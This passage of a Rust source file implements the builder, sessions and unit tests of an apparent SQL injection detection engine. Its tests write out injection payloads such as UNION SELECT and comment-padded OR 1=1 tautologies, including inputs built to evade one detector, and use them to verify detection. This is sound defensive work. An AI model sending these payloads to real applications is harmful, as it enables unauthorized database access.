                RecoveryPolicy::ErrorVirtualization => GateDecision::ErrorVirtualize,
            }
        }
    }
}

/// Why [`JozaBuilder::try_build`] or [`Joza::deploy`] rejected a
/// configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JozaBuildError {
    /// Both NTI and PTI are disabled — the engine would allow everything.
    AllDetectorsDisabled,
    /// PTI is enabled but the fragment vocabulary is empty, so *every*
    /// query with a critical token would be flagged (the installer found
    /// no application sources).
    EmptyPtiVocabulary,
    /// The model index names a route the application does not serve
    /// (per [`JozaBuilder::known_routes`]): the model could never match
    /// live traffic and would only surface as silent
    /// [`JozaStats::route_misses_unknown`] drift.
    UnknownModelRoute(String),
}

impl std::fmt::Display for JozaBuildError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            JozaBuildError::AllDetectorsDisabled => {
                write!(f, "both NTI and PTI are disabled; the engine would detect nothing")
            }
            JozaBuildError::EmptyPtiVocabulary => {
                write!(
                    f,
                    "PTI is enabled but no fragments were provided; every query would be flagged"
                )
            }
            JozaBuildError::UnknownModelRoute(route) => {
                write!(
                    f,
                    "the model index names route {route:?}, which the application does not serve"
                )
            }
        }
    }
}

impl std::error::Error for JozaBuildError {}

/// Builder for [`Joza`].
#[derive(Debug, Default)]
pub struct JozaBuilder {
    fragments: Vec<String>,
    config: JozaConfig,
    models: Option<QueryModelIndex>,
    taint_free: Option<BTreeSet<String>>,
    dirty_cells: Option<BTreeSet<(String, String)>>,
    known_routes: Option<BTreeSet<String>>,
}

impl JozaBuilder {
    /// Adds fragments from an iterator of strings.
    #[must_use]
    pub fn fragments<I, S>(mut self, fragments: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.fragments.extend(fragments.into_iter().map(|s| s.as_ref().to_string()));
        self
    }

    /// Adds fragments from an extracted [`FragmentSet`].
    #[must_use]
    pub fn fragment_set(mut self, set: &FragmentSet) -> Self {
        self.fragments.extend(set.iter().map(str::to_string));
        self
    }

    /// Sets the configuration.
    #[must_use]
    pub fn config(mut self, config: JozaConfig) -> Self {
        self.config = config;
        self
    }

    /// Installs per-route static query models (from
    /// `joza_sast::app_query_models`). Routes with a model get the
    /// skeleton fast path and, when the model is complete, the
    /// structural-anomaly signal; routes without one are unaffected.
    #[must_use]
    pub fn query_models(mut self, models: QueryModelIndex) -> Self {
        self.models = Some(models);
        self
    }

    /// Installs the static fast path: requests on these routes — proven
    /// taint-free by the static analyzer (`joza_sast::taint_free_routes`)
    /// — are allowed without running any detection stage.
    #[must_use]
    pub fn taint_free_routes<I, S>(mut self, routes: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.taint_free
            .get_or_insert_with(BTreeSet::new)
            .extend(routes.into_iter().map(|r| r.as_ref().to_string()));
        self
    }

    /// Installs the dirty-cell set (from
    /// `joza_sast::StoreFlowReport::dirty_cells`): stored `(table,
    /// column)` cells reachable by attacker-controlled writes. Values
    /// fetched from them at runtime are captured as DB-sourced inputs and
    /// matched by NTI/PTI like request inputs — the second-order defense.
    /// `"*"` components are wildcards.
    #[must_use]
    pub fn dirty_cells<I, S>(mut self, cells: I) -> Self
    where
        I: IntoIterator<Item = (S, S)>,
        S: AsRef<str>,
    {
        self.dirty_cells.get_or_insert_with(BTreeSet::new).extend(
            cells.into_iter().map(|(t, c)| (t.as_ref().to_string(), c.as_ref().to_string())),
        );
        self
    }

    /// Declares the routes the application actually serves, enabling
    /// model/route consistency validation: [`JozaBuilder::try_build`] and
    /// every later [`Joza::deploy`] reject a model index naming a route
    /// outside this set ([`JozaBuildError::UnknownModelRoute`]) instead
    /// of letting it decay into silent `route_misses_unknown` at runtime.
    /// [`Joza::installer`] fills it from the application automatically;
    /// without it, no validation happens.
    #[must_use]
    pub fn known_routes<I, S>(mut self, routes: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.known_routes
            .get_or_insert_with(BTreeSet::new)
            .extend(routes.into_iter().map(|r| r.as_ref().to_string()));
        self
    }

    /// Selects the NTI approximate-matching kernel (§III-A hot path).
    ///
    /// Both kernels produce bit-identical verdicts and taint spans;
    /// [`MatchKernel::BitParallel`] (the default) is roughly an order of
    /// magnitude cheaper on long queries, while [`MatchKernel::Classic`]
    /// is kept for the Fig. 7-style kernel ablation.
    #[must_use]
    pub fn nti_kernel(mut self, kernel: MatchKernel) -> Self {
        self.config.nti.kernel = kernel;
        self
    }

    /// Builds the engine, validating the configuration first.
    ///
    /// Rejects configurations that cannot protect anything
    /// ([`JozaBuildError::AllDetectorsDisabled`]) or that would flag all
    /// traffic ([`JozaBuildError::EmptyPtiVocabulary`]). The check
    /// pipeline is assembled here, once: stages for disabled or absent
    /// subsystems are left out. The per-worker PTI components (and their
    /// daemons) spawn lazily, on each worker's first check.
    pub fn try_build(self) -> Result<Joza, JozaBuildError> {
        if self.config.disable_nti && self.config.disable_pti {
            return Err(JozaBuildError::AllDetectorsDisabled);
        }
        if !self.config.disable_pti && self.fragments.is_empty() {
            return Err(JozaBuildError::EmptyPtiVocabulary);
        }
        validate_model_routes(self.models.as_ref(), self.known_routes.as_ref())?;
        let nti = NtiAnalyzer::new(self.config.nti.clone());
        let fragment_count = self.fragments.len();
        let store = Arc::new(FragmentStore::new(&self.fragments, self.config.pti.pti.matcher));
        let shared_query_cache =
            self.config.pti.query_cache.then(|| Arc::new(SharedQueryCache::new()));
        let shard_count = if self.config.shards == 0 {
            std::thread::available_parallelism().map_or(8, |p| (p.get() * 2).clamp(8, 64))
        } else {
            self.config.shards
        };
        let checks = CheckPipeline::assemble(
            self.taint_free.is_some(),
            self.models.is_some(),
            self.config.disable_nti,
            self.config.disable_pti,
        );
        let deployment = Arc::new(Deployment {
            generation: 0,
            models: self.models.map(Arc::new),
            taint_free: self.taint_free.map(Arc::new),
            dirty_cells: self.dirty_cells.map(Arc::new),
            checks,
        });
        Ok(Joza {
            config: self.config,
            nti,
            store,
            shared_query_cache,
            shards: (0..shard_count).map(|_| OnceLock::new()).collect(),
            stats_cells: (0..shard_count).map(|_| StatsCell::default()).collect(),
            fragment_count,
            known_routes: self.known_routes,
            deployment: RwLock::new(deployment),
            next_generation: AtomicU64::new(0),
        })
    }

    /// Builds the engine.
    ///
    /// # Panics
    ///
    /// Panics on the configurations [`JozaBuilder::try_build`] rejects.
    pub fn build(self) -> Joza {
        self.try_build().expect("invalid Joza configuration")
    }
}

/// One query in a [`JozaSession::check_batch`] call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QueryCheck {
    /// The SQL to check.
    pub query: String,
    /// Extra raw input values scoped to this query alone, checked in
    /// addition to the session's captured inputs (empty for the common
    /// case where the whole batch shares one request's inputs).
    pub inputs: Vec<String>,
}

impl QueryCheck {
    /// A batch entry checking `query` against the session's inputs.
    pub fn new(query: impl Into<String>) -> Self {
        QueryCheck { query: query.into(), inputs: Vec::new() }
    }

    /// Adds a raw input value scoped to this query alone.
    #[must_use]
    pub fn with_input(mut self, value: impl Into<String>) -> Self {
        self.inputs.push(value.into());
        self
    }
}

/// The unified analysis session: collected inputs + query checks, scoped
/// to an optional route.
///
/// One type serves every integration level. Library callers open it with
/// [`Joza::session`] / [`Joza::session_for`] and read full [`Verdict`]s
/// from [`JozaSession::check`] or [`JozaSession::check_batch`]; the
/// [`GateFactory`] impl on [`Joza`] boxes the same type as a
/// [`GateSession`] (whose trait `check` collapses the verdict to a
/// [`GateDecision`] under the engine's recovery policy) for
/// `joza_webapp::Server::handle_with`.
///
/// The session pins the [`Joza::deploy`] release current when it was
/// opened: every check of one session — and so every query of one
/// request — is served by a single consistent model generation, visible
/// as [`StageTrace::generation`] on its verdicts.
#[derive(Debug)]
pub struct JozaSession<'a> {
    joza: &'a Joza,
    dep: Arc<Deployment>,
    route: Option<String>,
    model: Option<Arc<RouteModel>>,
    inputs: Vec<(String, String)>,
}

impl JozaSession<'_> {
    /// Captures one raw input (the preprocessing step, §IV-B).
    pub fn capture_input(&mut self, name: &str, value: &str) {
        self.inputs.push((name.to_string(), value.to_string()));
    }

    /// Clears captured inputs (start of a new request).
    pub fn reset(&mut self) {
        self.inputs.clear();
    }

    /// Whether the pinned deployment marks the stored cell
    /// `(table, column)` dirty — attacker-reachable by write, so fetched
    /// values must be treated as taint sources. Honors `"*"` wildcards in
    /// the deployed set.
    pub fn is_dirty_cell(&self, table: &str, column: &str) -> bool {
        let Some(cells) = self.dep.dirty_cells.as_deref() else {
            return false;
        };
        let t = table.to_ascii_lowercase();
        let c = column.to_ascii_lowercase();
        cells.contains(&(t.clone(), c))
            || cells.contains(&(t, "*".to_string()))
            || cells.contains(&("*".to_string(), "*".to_string()))
    }

    /// Captures one value fetched from a dirty cell as a DB-sourced
    /// input (named `db:table.column`): subsequent checks of this session
    /// match it exactly like a raw request input, which is what turns a
    /// stored (second-order) payload back into a detectable one at the
    /// trigger query.
    pub fn capture_db_input(&mut self, table: &str, column: &str, value: &str) {
        self.inputs.push((format!("db:{table}.{column}"), value.to_string()));
    }

    /// The deployment generation this session is pinned to.
    pub fn generation(&self) -> u64 {
        self.dep.generation
    }

    /// Checks a query against the captured inputs (and the session's
    /// route context, for sessions opened with [`Joza::session_for`]).
    pub fn check(&self, query: &str) -> Verdict {
        let refs: Vec<&str> = self.inputs.iter().map(|(_, v)| v.as_str()).collect();
        self.joza.check_on(&self.dep, self.route.as_deref(), self.model.as_deref(), &refs, query)
    }

    /// Checks a batch of queries in order, returning one [`Verdict`] per
    /// entry — bit-identical to calling [`JozaSession::check`] per query.
    ///
    /// The batch amortizes the per-check serving overhead: the input-ref
    /// vector is built once, the route's model handle and deployment are
    /// the session's pinned ones (no per-query lookup), and statistics
    /// for the whole batch are accumulated in one local delta and flushed
    /// into the worker's stats cell once at the end instead of per query.
    pub fn check_batch(&self, checks: &[QueryCheck]) -> Vec<Verdict> {
        let base: Vec<&str> = self.inputs.iter().map(|(_, v)| v.as_str()).collect();
        let mut delta = JozaStats::default();
        let mut verdicts = Vec::with_capacity(checks.len());
        let mut refs = Vec::with_capacity(base.len() + 2);
        for qc in checks {
            let inputs: &[&str] = if qc.inputs.is_empty() {
                &base
            } else {
                refs.clear();
                refs.extend_from_slice(&base);
                refs.extend(qc.inputs.iter().map(String::as_str));
                &refs
            };
            verdicts.push(self.joza.check_in(
                &self.dep,
                self.route.as_deref(),
                self.model.as_deref(),
                inputs,
                &qc.query,
                &mut delta,
            ));
        }
        self.joza.stats_cell().add(&delta);
        verdicts
    }
}

impl GateSession for JozaSession<'_> {
    fn check(&mut self, sql: &str) -> GateDecision {
        let verdict = JozaSession::check(self, sql);
        self.joza.decide(&verdict)
    }

    fn check_batch(&mut self, sqls: &[String]) -> Vec<GateDecision> {
        let checks: Vec<QueryCheck> = sqls.iter().map(QueryCheck::new).collect();
        JozaSession::check_batch(self, &checks).iter().map(|v| self.joza.decide(v)).collect()
    }

    fn dirty_cell(&self, table: &str, column: &str) -> bool {
        self.is_dirty_cell(table, column)
    }

    fn capture_db_input(&mut self, table: &str, column: &str, value: &str) {
        JozaSession::capture_db_input(self, table, column, value);
    }
}

impl GateFactory for Joza {
    fn session<'a>(&'a self, route: &str, inputs: &[RawInput]) -> Box<dyn GateSession + 'a> {
        // Per-request PTI lifecycle (daemon spawn in PerRequest mode) on
        // the calling worker's shard.
        self.begin_request_inner();
        let mut session = self.session_for(route);
        for input in inputs {
            session.capture_input(&input.name, &input.value);
        }
        Box::new(session)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FRAGS: &[&str] = &["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];

    fn joza() -> Joza {
        Joza::builder().fragments(FRAGS).config(JozaConfig::optimized()).build()
    }

    #[test]
    fn benign_query_safe() {
        let j = joza();
        let v = j.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.is_safe());
        assert_eq!(v.detector(), None);
        assert_eq!(j.stats().queries, 1);
        assert_eq!(j.stats().attacks, 0);
    }

    #[test]
    fn obvious_attack_caught_by_both() {
        let j = joza();
        let payload = "-1 UNION SELECT username()";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let v = j.check_query(&[payload], &q);
        assert!(!v.is_safe());
        assert_eq!(v.detector(), Some(Detector::Both));
        assert_eq!(v.trace().status(StageId::Nti), StageStatus::Fired);
        assert_eq!(v.trace().status(StageId::Pti), StageStatus::Fired);
    }

    #[test]
    fn nti_evasion_caught_by_pti() {
        // Quote-stuffed comment block: NTI's difference ratio blows past
        // the threshold, but the comment is not a program fragment.
        let payload_input = "-1 OR/*''''''''''*/1=1";
        let payload_in_query = payload_input.replace('\'', "\\'");
        let q = format!("SELECT * FROM records WHERE ID={payload_in_query} LIMIT 5");
        let v = joza().check_query(&[payload_input], &q);
        assert_eq!(v.nti_attack(), Some(false), "NTI must be evaded: {v:?}");
        assert_eq!(v.pti_attack(), Some(true), "PTI must catch it");
        assert!(!v.is_safe());
        assert_eq!(v.detector(), Some(Detector::Pti));
    }

    #[test]
    fn pti_evasion_caught_by_nti() {
        // The application's vocabulary happens to contain OR and = — PTI
        // misses the tautology, NTI sees it verbatim in the query.
        let j = Joza::builder()
            .fragments(["id", "SELECT * FROM records WHERE ID=", " LIMIT 5", "OR", "=", "1"])
            .config(JozaConfig::optimized())
            .build();
        let payload = "1 OR 1 = 1";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let v = j.check_query(&[payload], &q);
        assert_eq!(v.pti_attack(), Some(false), "PTI must be evaded: {v:?}");
        assert_eq!(v.nti_attack(), Some(true), "NTI must catch it");
        assert!(!v.is_safe());
        assert_eq!(v.detector(), Some(Detector::Nti));
    }

    #[test]
    fn ablation_configs() {
        let nti_only = Joza::builder().fragments(FRAGS).config(JozaConfig::nti_only()).build();
        let v = nti_only.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.pti_attack().is_none());
        assert!(v.nti_attack().is_some());
        assert!(!v.trace().ran(StageId::Pti), "disabled PTI stage must stay Skipped");

        let pti_only = Joza::builder().fragments(FRAGS).config(JozaConfig::pti_only()).build();
        let v = pti_only.check_query(&["42"], "SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.nti_attack().is_none());
        assert!(v.pti_attack().is_some());
        assert!(!v.trace().ran(StageId::Nti), "disabled NTI stage must stay Skipped");
    }

    #[test]
    fn try_build_rejects_all_disabled() {
        let err = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig { disable_nti: true, disable_pti: true, ..JozaConfig::optimized() })
            .try_build()
            .unwrap_err();
        assert_eq!(err, JozaBuildError::AllDetectorsDisabled);
        assert!(err.to_string().contains("disabled"));
    }

    #[test]
    fn try_build_rejects_empty_pti_vocabulary() {
        let err = Joza::builder().config(JozaConfig::optimized()).try_build().unwrap_err();
        assert_eq!(err, JozaBuildError::EmptyPtiVocabulary);
        // NTI-only with no fragments is fine: PTI never consults them.
        assert!(Joza::builder().config(JozaConfig::nti_only()).try_build().is_ok());
    }

    #[test]
    #[should_panic(expected = "invalid Joza configuration")]
    fn build_panics_on_invalid_config() {
        let _ = Joza::builder().config(JozaConfig::optimized()).build();
    }

    #[test]
    fn session_capture_flow() {
        let j = joza();
        let mut s = j.session();
        s.capture_input("id", "-1 UNION SELECT username()");
        let v = s.check("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5");
        assert!(!v.is_safe());
        s.reset();
        s.capture_input("id", "5");
        assert!(s.check("SELECT * FROM records WHERE ID=5 LIMIT 5").is_safe());
    }

    #[test]
    fn stats_accumulate() {
        let j = joza();
        j.check_query(&["5"], "SELECT * FROM records WHERE ID=5 LIMIT 5");
        let p = "-1 UNION SELECT username()";
        j.check_query(&[p], &format!("SELECT * FROM records WHERE ID={p} LIMIT 5"));
        let st = j.stats();
        assert_eq!(st.queries, 2);
        assert_eq!(st.attacks, 1);
        assert!(st.nti_detections >= 1);
        assert!(st.pti_detections >= 1);
        assert_eq!(st.full_checks, 2);
        assert_eq!(st.stage_runs[StageId::Nti.index()], 2);
        assert_eq!(st.stage_hits[StageId::Nti.index()], 1);
    }

    #[test]
    fn path_counters_partition_checks() {
        let j = joza_with_models(JozaConfig::optimized());
        let mut s = j.session_for("records");
        s.capture_input("id", "42");
        s.check("SELECT * FROM records WHERE ID=42 LIMIT 5"); // model fast path
        s.check("SELECT * FROM records WHERE ID=42"); // dynamic (skeleton mismatch)
        j.check_query(&["1"], "SELECT * FROM records WHERE ID=1 LIMIT 5"); // dynamic
        let st = j.stats();
        assert_eq!(st.model_fast_hits + st.static_hits + st.full_checks, st.queries);
        assert_eq!((st.model_fast_hits, st.static_hits, st.full_checks), (1, 0, 2));
    }

    #[test]
    fn stats_aggregate_across_worker_shards() {
        let j = Arc::new(
            Joza::builder()
                .fragments(FRAGS)
                .config(JozaConfig { shards: 4, ..JozaConfig::optimized() })
                .build(),
        );
        assert_eq!(j.shard_count(), 4);
        let threads: Vec<_> = (0..4)
            .map(|t| {
                let j = Arc::clone(&j);
                std::thread::spawn(move || {
                    for i in 0..10 {
                        let id = t * 100 + i;
                        let q = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                        assert!(j.check_query(&[&id.to_string()], &q).is_safe());
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().expect("worker panicked");
        }
        let st = j.stats();
        assert_eq!(st.queries, 40);
        assert_eq!(st.attacks, 0);
        assert_eq!(st.full_checks, 40);
    }

    #[test]
    fn shared_query_cache_reported() {
        let j = joza();
        j.check_query(&["5"], "SELECT * FROM records WHERE ID=5 LIMIT 5");
        j.check_query(&["5"], "SELECT * FROM records WHERE ID=5 LIMIT 5");
        let cs = j.query_cache_stats();
        assert_eq!(cs.hits, 1);
        assert_eq!(cs.inserts, 1);
    }

    #[test]
    fn installer_extracts_from_webapp() {
        use joza_webapp::app::Plugin;
        let mut app = WebApp::new("t");
        app.add_core_source(r#"$q = "SELECT option_value FROM wp_options WHERE option_name='";"#);
        app.add_plugin(Plugin::new(
            "p",
            "1.0",
            r#"$q = "SELECT * FROM data WHERE ID=" . $_GET['id']; mysql_query($q);"#,
        ));
        let j = Joza::install(&app, JozaConfig::optimized());
        assert!(j.fragment_count() >= 3);
        let v = j.check_query(&["7"], "SELECT * FROM data WHERE ID=7");
        assert!(v.is_safe(), "{v:?}");
    }

    fn demo_models() -> QueryModelIndex {
        use joza_sqlparse::template::{QueryTemplate, TemplatePart};
        let t = QueryTemplate {
            parts: vec![
                TemplatePart::Lit("SELECT * FROM records WHERE ID=".to_string()),
                TemplatePart::Hole,
                TemplatePart::Lit(" LIMIT 5".to_string()),
            ],
        };
        let mut ix = QueryModelIndex::new();
        ix.insert("records", RouteModel::build(&[Some(vec![t])]));
        ix
    }

    fn joza_with_models(config: JozaConfig) -> Joza {
        Joza::builder().fragments(FRAGS).config(config).query_models(demo_models()).build()
    }

    #[test]
    fn model_fast_path_skips_dynamic_detectors() {
        let j = joza_with_models(JozaConfig::optimized());
        let mut s = j.session_for("records");
        s.capture_input("id", "42");
        let v = s.check("SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(v.is_safe());
        assert_eq!(v.path(), CheckPath::ModelFastPath);
        assert_eq!(v.nti_attack(), None, "NTI must be skipped on the fast path");
        assert_eq!(v.pti_attack(), None, "PTI must be skipped on the fast path");
        assert_eq!(v.trace().status(StageId::ModelFastPath), StageStatus::ShortCircuited);
        assert!(!v.trace().ran(StageId::Nti));
        assert!(!v.trace().ran(StageId::Pti));
        assert_eq!(j.stats().model_fast_hits, 1);
        assert_eq!(j.stats().queries, 1);
    }

    #[test]
    fn model_mismatch_still_runs_dynamic_path_and_detects() {
        let j = joza_with_models(JozaConfig::optimized());
        let mut s = j.session_for("records");
        let payload = "-1 UNION SELECT username()";
        s.capture_input("id", payload);
        let v = s.check(&format!("SELECT * FROM records WHERE ID={payload} LIMIT 5"));
        assert!(!v.is_safe());
        assert_eq!(v.path(), CheckPath::Dynamic);
        assert!(v.structural_anomaly(), "complete model must flag the deformed skeleton");
        assert_eq!(v.detector(), Some(Detector::Both));
        assert_eq!(v.trace().status(StageId::ModelFastPath), StageStatus::Passed);
        assert_eq!(v.trace().status(StageId::Structural), StageStatus::Fired);
        assert_eq!(j.stats().model_fast_hits, 0);
        assert_eq!(j.stats().model_anomalies, 1);
    }

    #[test]
    fn structural_anomaly_fuses_without_blocking_by_default() {
        let j = joza_with_models(JozaConfig::optimized());
        // A query shape the app never emits, built only from benign
        // vocabulary: NTI/PTI pass, the model does not.
        let s = j.session_for("records");
        let v = s.check("SELECT * FROM records WHERE ID=1");
        assert!(v.is_safe(), "anomaly alone must not block by default: {v:?}");
        assert!(v.structural_anomaly());
        assert_eq!(j.stats().model_anomalies, 1);
    }

    #[test]
    fn structural_anomaly_blocks_when_configured() {
        let j = joza_with_models(JozaConfig {
            block_on_structural_anomaly: true,
            ..JozaConfig::optimized()
        });
        let s = j.session_for("records");
        let v = s.check("SELECT * FROM records WHERE ID=1");
        assert!(!v.is_safe());
        assert_eq!(v.detector(), Some(Detector::Structural));
        assert_eq!(j.stats().attacks, 1);
    }

    #[test]
    fn incomplete_model_never_signals_anomaly() {
        use joza_sqlparse::template::QueryTemplate;
        let mut ix = QueryModelIndex::new();
        // One modeled site, one ⊤ site: the route model is incomplete.
        ix.insert("r", RouteModel::build(&[Some(vec![QueryTemplate::lit("SELECT 1")]), None]));
        let j = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .query_models(ix)
            .build();
        let s = j.session_for("r");
        let v = s.check("SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert!(v.is_safe());
        assert!(!v.structural_anomaly());
        assert_eq!(v.path(), CheckPath::Dynamic);
        // The compiled branch still fast-paths.
        assert_eq!(s.check("SELECT 1").path(), CheckPath::ModelFastPath);
    }

    #[test]
    fn unmodeled_route_is_fully_dynamic() {
        let j = joza_with_models(JozaConfig::optimized());
        let s = j.session_for("other-route");
        let v = s.check("SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert!(v.is_safe());
        assert_eq!(v.path(), CheckPath::Dynamic);
        assert!(!v.structural_anomaly());
        assert!(j.query_models().is_some());
        assert!(j.model_for("other-route").is_none());
    }

    #[test]
    fn unknown_route_records_route_miss_and_falls_back_to_dynamic() {
        let j = joza_with_models(JozaConfig::optimized());
        let v = j.check_query_on_route(
            "no-such-route",
            &["1"],
            "SELECT * FROM records WHERE ID=1 LIMIT 5",
        );
        // Fallback-to-dynamic pinned: both detectors actually ran.
        assert!(v.is_safe());
        assert_eq!(v.path(), CheckPath::Dynamic);
        assert_eq!(v.nti_attack(), Some(false));
        assert_eq!(v.pti_attack(), Some(false));
        assert_eq!(j.stats().route_misses_unknown, 1);
        assert_eq!(j.stats().route_misses_incomplete, 0);

        // A known, completely-modeled route is no kind of miss, whether
        // it fast-paths or not.
        j.check_query_on_route("records", &["1"], "SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert_eq!(j.stats().route_misses_unknown, 1);
        assert_eq!(j.stats().route_misses_incomplete, 0);

        // A route-less check is never a miss.
        j.check_query(&["1"], "SELECT * FROM records WHERE ID=1 LIMIT 5");
        assert_eq!(j.stats().route_misses_unknown, 1);

        // An engine without models never counts misses: there is no index
        // the route could be missing from.
        let plain = joza();
        plain.check_query_on_route("whatever", &["1"], "SELECT 1");
        assert_eq!(plain.stats().route_misses_unknown, 0);
        assert_eq!(plain.stats().route_misses_incomplete, 0);
    }

    #[test]
    fn incomplete_model_route_counts_its_own_miss_kind() {
        use joza_sqlparse::template::{QueryTemplate, TemplatePart};
        let t = QueryTemplate {
            parts: vec![
                TemplatePart::Lit("SELECT * FROM records WHERE ID=".to_string()),
                TemplatePart::Hole,
                TemplatePart::Lit(" LIMIT 5".to_string()),
            ],
        };
        let mut ix = QueryModelIndex::new();
        // One modeled site plus one ⊤ site: the route is *known* to the
        // index, but its model is incomplete.
        ix.insert("half-modeled", RouteModel::build(&[Some(vec![t]), None]));
        let j = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .query_models(ix)
            .build();

        j.check_query_on_route("half-modeled", &["1"], "SELECT name FROM other WHERE x=1");
        assert_eq!(j.stats().route_misses_unknown, 0);
        assert_eq!(j.stats().route_misses_incomplete, 1);

        // A query the incomplete model still matches rides the fast path
        // and is not a miss of either kind.
        let v = j.check_query_on_route(
            "half-modeled",
            &["1"],
            "SELECT * FROM records WHERE ID=1 LIMIT 5",
        );
        assert_eq!(v.path(), CheckPath::ModelFastPath);
        assert_eq!(j.stats().route_misses_unknown, 0);
        assert_eq!(j.stats().route_misses_incomplete, 1);

        // The taint-free set overrides: a statically-proven route is
        // covered however incomplete its model is.
        let mut ix2 = QueryModelIndex::new();
        ix2.insert("proven", RouteModel::build(&[None]));
        let proven = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .query_models(ix2)
            .taint_free_routes(["proven"])
            .build();
        proven.check_query_on_route("proven", &["1"], "SELECT 1");
        assert_eq!(proven.stats().route_misses_unknown, 0);
        assert_eq!(proven.stats().route_misses_incomplete, 0);
    }

    #[test]
    fn static_fast_path_short_circuits_everything() {
        let j = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .taint_free_routes(["clean-route"])
            .build();
        let payload = "-1 UNION SELECT username()";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let v = j.check_query_on_route("clean-route", &[payload], &q);
        assert!(v.is_safe(), "a proven-taint-free route skips all detection");
        assert_eq!(v.path(), CheckPath::StaticFastPath);
        assert_eq!(v.trace().status(StageId::StaticFastPath), StageStatus::ShortCircuited);
        assert!(!v.trace().ran(StageId::Nti));
        assert!(!v.trace().ran(StageId::Pti));
        assert_eq!(j.stats().static_hits, 1);

        // Other routes pass the whitelist stage and run the detectors.
        let v = j.check_query_on_route("dirty-route", &[payload], &q);
        assert!(!v.is_safe());
        assert_eq!(v.trace().status(StageId::StaticFastPath), StageStatus::Passed);
        let st = j.stats();
        assert_eq!(st.model_fast_hits + st.static_hits + st.full_checks, st.queries);
    }

    #[test]
    fn factory_session_uses_route_models() {
        let j = joza_with_models(JozaConfig::optimized());
        let input = RawInput {
            source: joza_webapp::request::InputSource::Get,
            name: "id".to_string(),
            value: "7".to_string(),
        };
        let mut s = GateFactory::session(&j, "records", std::slice::from_ref(&input));
        assert_eq!(s.check("SELECT * FROM records WHERE ID=7 LIMIT 5"), GateDecision::Allow);
        drop(s);
        assert_eq!(j.stats().model_fast_hits, 1);

        // Attacks never ride the fast path.
        let mut s = GateFactory::session(&j, "records", &[]);
        assert_eq!(
            s.check("SELECT * FROM records WHERE ID=-1 UNION SELECT 1 LIMIT 5"),
            GateDecision::Terminate
        );
        assert_eq!(j.stats().model_fast_hits, 1);
    }

    #[test]
    fn known_routes_validation() {
        // A model route outside the declared app routes is a build error,
        // not a silent runtime route_misses_unknown.
        let mut ix = demo_models();
        ix.insert("ghost-route", RouteModel::build(&[Some(vec![])]));
        let err = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .known_routes(["records"])
            .query_models(ix.clone())
            .try_build()
            .map(|_| ())
            .unwrap_err();
        assert_eq!(err, JozaBuildError::UnknownModelRoute("ghost-route".to_string()));
        assert!(err.to_string().contains("ghost-route"));

        // The same index builds fine when every modeled route is known…
        assert!(Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .known_routes(["records", "ghost-route"])
            .query_models(ix.clone())
            .try_build()
            .is_ok());

        // …and without known_routes no validation happens (builder-only
        // callers keep their synthetic-route tests).
        assert!(Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .query_models(ix.clone())
            .try_build()
            .is_ok());

        // deploy() enforces the same oracle.
        let j = Joza::builder()
            .fragments(FRAGS)
            .config(JozaConfig::optimized())
            .known_routes(["records"])
            .build();
        let err = j.deploy(ModelUpdate::new().query_models(ix)).unwrap_err();
        assert_eq!(err, JozaBuildError::UnknownModelRoute("ghost-route".to_string()));
        assert_eq!(j.generation(), 0, "a rejected deploy must not mint a generation");
    }

    #[test]
    fn deploy_hot_swaps_models_and_stamps_generations() {
        let j = Joza::builder().fragments(FRAGS).config(JozaConfig::optimized()).build();
        assert_eq!(j.generation(), 0);
        let q = "SELECT * FROM records WHERE ID=42 LIMIT 5";

        // Generation 0: no models, fully dynamic.
        let v0 = j.check_query_on_route("records", &["42"], q);
        assert_eq!(v0.path(), CheckPath::Dynamic);
        assert_eq!(v0.trace().generation(), 0);

        // Deploy the model index: the same check now rides the fast path
        // and its verdict carries the new generation.
        let generation = j.deploy(ModelUpdate::new().query_models(demo_models())).unwrap();
        assert_eq!(generation, 1);
        assert_eq!(j.generation(), 1);
        let v1 = j.check_query_on_route("records", &["42"], q);
        assert_eq!(v1.path(), CheckPath::ModelFastPath);
        assert_eq!(v1.trace().generation(), 1);
        assert!(j.model_for("records").is_some());

        // Roll back: clear the models again.
        assert_eq!(j.deploy(ModelUpdate::new().clear_query_models()).unwrap(), 2);
        let v2 = j.check_query_on_route("records", &["42"], q);
        assert_eq!(v2.path(), CheckPath::Dynamic);
        assert_eq!(v2.trace().generation(), 2);
        assert!(j.model_for("records").is_none());

        // Counters stayed drift-free across the swaps.
        let st = j.stats();
        assert_eq!(st.model_fast_hits + st.static_hits + st.full_checks, st.queries);
        assert_eq!((st.queries, st.model_fast_hits), (3, 1));
    }

    #[test]
    fn deploy_taint_free_whitelist_under_live_sessions() {
        let j = joza();
        // Session opened before the deploy pins the old release.
        let pinned = j.session_for("clean-route");
        assert_eq!(pinned.generation(), 0);

